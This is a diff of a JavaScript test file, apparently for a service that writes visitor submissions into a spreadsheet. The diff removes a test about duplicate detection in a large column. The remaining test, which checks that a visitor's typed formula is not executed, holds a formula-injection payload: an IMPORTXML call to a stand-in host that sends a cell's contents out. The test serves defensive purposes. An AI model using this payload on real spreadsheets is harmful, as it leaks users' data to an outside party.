@@ -66,14 +66,6 @@ it.each([
   ]);
 });
 
-it('a repeat is found in a column larger than a megabyte', async () => {
-  const vendor = await startSheets();
-  const others = Array.from({ length: 90_000 }, () => ['0000-0000']);
-  vendor.grid.push(['Protocolo', 'Nome'], ...others, ['C7F3-A91D', 'Ana']);
-  expect(await deliver(vendor)).toEqual(delivered);
-  expect(vendor.grid).toHaveLength(90_002);
-});
-
 it('the sheet does not run a formula that a visitor typed', async () => {
   const vendor = await startSheets();
   const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
